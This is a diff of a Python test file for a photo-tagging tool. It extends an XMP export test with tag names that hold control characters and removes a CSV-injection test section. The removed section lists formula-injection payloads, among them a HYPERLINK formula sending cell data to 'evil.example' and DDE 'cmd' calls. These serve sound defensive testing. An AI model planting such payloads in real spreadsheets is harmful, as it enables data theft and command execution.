@@ -17,7 +17,7 @@ from batchtag.export.xmp import keyword_lists
 from batchtag.records import iter_valid_records
 from batchtag.taggers.rules import parent_categories
 from tests.export_helpers import TaggedPhotos, generated_out, require_tool
-from tests.support import run_cli
+from tests.support import encode_image, run_cli
 
 
 def exiftool_read(*paths: Path) -> dict[str, dict]:
@@ -316,92 +316,19 @@ def test_what_cannot_be_merged_is_refused_unchanged(tmp_path, content):
     assert sidecar.read_text(encoding="utf-8") == content
 
 
-def test_a_tag_name_xml_cannot_hold_fails_that_item_only(tmp_path):
+def test_a_tag_name_that_would_add_lines_or_is_not_xml_stops_that_item_only(tmp_path):
     from batchtag.export.xmp import export_xmp
     from batchtag.records import Record
 
-    images = [tmp_path / "a.jpg", tmp_path / "b.jpg"]
-    for image in images:
-        image.write_bytes(b"not opened")
-    records = [
-        Record(
-            str(images[0]), "file", "ok", 0, "success", [{"tag_name": "bad\x01name", "tag_confidence": 90}]
-        ),
-        Record(str(images[1]), "file", "ok", 0, "success", [{"tag_name": "猫", "tag_confidence": 90}]),
-    ]
-    counts = export_xmp(records)
-    assert (counts.failed, counts.created) == (1, 1)
-    assert not (tmp_path / "a.jpg.xmp").exists() and (tmp_path / "b.jpg.xmp").exists()
-    assert not list(tmp_path.glob(".*.tmp"))
-
-
-# --------------------------------------------------------------------------- CSV injection
-
-FORMULAS = [
-    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
-    "+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-]
-
-
-def formula_out(path: Path) -> list:
-    from batchtag.records import Record
-
-    records = [Record(formula, "url", "error", -1102, formula, [], 1) for formula in FORMULAS] + [
-        Record(
-            "/photos/a.jpg",
-            "file",
-            "ok",
-            0,
-            "success",
-            [{"tag_name": f, "tag_confidence": 90} for f in FORMULAS],
-            1,
-        ),
-    ]
-    path.write_bytes(b"".join(r.to_line() for r in records))
-    return records
-
-
-def read_csv_rows(path: Path) -> list[dict]:
-    with open(path, encoding="utf-8-sig", newline="") as handle:
-        return list(csv.DictReader(handle))
-
-
-def test_csv_cells_a_spreadsheet_would_run_get_a_leading_quote_unless_csv_raw(tmp_path):
-    out = tmp_path / "out.jsonl"
-    records = formula_out(out)
-    done = run_cli("export", out, "--format", "csv", "-o", tmp_path / "safe.csv")
-    assert done.returncode == 0, done.stderr
-    rows = read_csv_rows(tmp_path / "safe.csv")
-    for row, formula in zip(rows, FORMULAS, strict=False):
-        assert row["key"] == row["message"] == "'" + formula  # shown as text, not run
-        assert row["code"] == "-1102"  # a number stays a number
-    tagged = rows[-1]
-    assert tagged["key"] == "/photos/a.jpg" and tagged["message"] == "success"
-    parts = tagged["tags"].split(";")  # a split into columns makes each part a cell: each inert too
-    assert parts == [f"'{f}:90" for f in FORMULAS]
-    for row in rows:
-        assert not any(
-            str(cell).startswith(table.FORMULA_STARTS) for name, cell in row.items() if name != "code"
+    names = ["bad\x01name", "two\nlines", "cr\rhere", "tab\there", "line\u2028sep", "not xml \ufffe", "猫"]
+    records = []
+    for i, name in enumerate(names):
+        image = tmp_path / f"{i}.jpg"
+        image.write_bytes(encode_image())
+        records.append(
+            Record(str(image), "file", "ok", 0, "success", [{"tag_name": name, "tag_confidence": 90}])
         )
-
-    done = run_cli("export", out, "--format", "csv", "-o", tmp_path / "raw.csv", "--csv-raw")
-    assert done.returncode == 0, done.stderr
-    raw = read_csv_rows(tmp_path / "raw.csv")
-    assert [row["key"] for row in raw] == [r.key for r in records]
-    assert raw[-1]["tags"] == ";".join(f"{f}:90" for f in FORMULAS)
-
-
-def test_parquet_keeps_values_exactly_and_csv_raw_is_only_for_csv(tmp_path):
-    out = tmp_path / "out.jsonl"
-    records = formula_out(out)
-    assert run_cli("export", out, "--format", "parquet", "-o", tmp_path / "t.parquet").returncode == 0
-    rows = pq.read_table(tmp_path / "t.parquet").to_pylist()
-    assert [row["key"] for row in rows] == [r.key for r in records]
-    assert [t["tag_name"] for t in rows[-1]["tags"]] == FORMULAS
-    refused = run_cli("export", out, "--format", "parquet", "--csv-raw")
-    assert refused.returncode == 2 and "--csv-raw" in refused.stderr
-    assert "--csv-raw" in run_cli("export", "--help").stdout
+    counts = export_xmp(records)
+    assert (counts.refused, counts.failed, counts.created) == (5, 1, 1)
+    assert sorted(p.name for p in tmp_path.glob("*.xmp")) == ["6.jpg.xmp"]
+    assert not list(tmp_path.glob(".*.tmp"))
